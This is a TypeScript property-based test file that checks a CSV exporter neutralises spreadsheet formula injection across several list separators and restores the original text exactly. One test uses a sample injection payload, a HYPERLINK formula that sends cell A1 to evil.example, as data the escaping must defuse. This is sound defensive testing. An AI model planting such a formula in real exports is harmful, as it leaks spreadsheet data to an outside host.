import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { formatCsv } from "@/lib/performance/exports/csv";
import { neutralizeFormulas, restoreText } from "@/lib/spreadsheet-text";

const pieces = [..."=+-@＝＋－＠\t\r\n,;|'\" \u00A0a1", "\r\n", "=HYPERLINK(1)", 'x"'];
const texts = fc.array(fc.constantFrom(...pieces), { maxLength: 12 }).map((all) => all.join(""));

/**
 * The cells that a spreadsheet makes of a file whose list separator is `separator`: a quote counts at the start of a
 * cell only, and what follows its closing quote belongs to the cell.
 */
function splitLikeSpreadsheet(file: string, separator: string): readonly string[] {
  const cells: string[] = [];
  let cell = "";
  let place: "start" | "quoted" | "plain" = "start";
  for (let index = 0; index < file.length; index += 1) {
    const character = file.charAt(index);
    if (place === "quoted") {
      if (character !== '"') cell += character;
      else if (file.charAt(index + 1) === '"') {
        cell += '"';
        index += 1;
      } else place = "plain";
    } else if (place === "start" && character === '"') place = "quoted";
    else if (character === separator || character === "\n" || character === "\r") {
      cells.push(cell);
      cell = "";
      place = "start";
    } else {
      cell += character;
      place = "plain";
    }
  }
  return [...cells, cell];
}

const isFormula = (cell: string) => /^["\s]*[=+\-@＝＋－＠]/u.test(cell);

describe("a text in a CSV file", () => {
  it.each([",", ";", "\t", "|"])(
    "is no formula in any cell, where the list separator is %j",
    (separator) => {
      fc.assert(
        fc.property(texts, texts, (first, second) => {
          const file = formatCsv([[first, "x", second]]);
          expect(splitLikeSpreadsheet(file, separator).filter(isFormula)).toEqual([]);
        }),
      );
    },
  );

  it.each([",", ";", "|", "\t", "\r", "\n"])("is no formula after a word and %j", (separator) => {
    expect(neutralizeFormulas(`x${separator}=1`)).toBe(`x${separator}'=1`);
  });

  it("keeps the formula of the text x;=HYPERLINK(…);y a text where a semicolon separates cells", () => {
    const text = 'x;=HYPERLINK("http://evil.example/?"&A1,"click");y';
    const cells = splitLikeSpreadsheet(formatCsv([[1, text, 2]]), ";");
    expect(cells).toContain(`'=HYPERLINK(""http://evil.example/?""&A1,""click"")`);
  });

  it("is exact again after it is restored", () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(restoreText(neutralizeFormulas(text))).toBe(text);
      }),
    );
  });

  it.each(["a title", "'tis", "a, b; c", "1-2", "x=1", "it's; 'quoted'"])(
    "stays as it is where nothing in it can be a formula: %s",
    (text) => {
      expect(neutralizeFormulas(text)).toBe(text);
      expect(restoreText(text)).toBe(text);
    },
  );
});
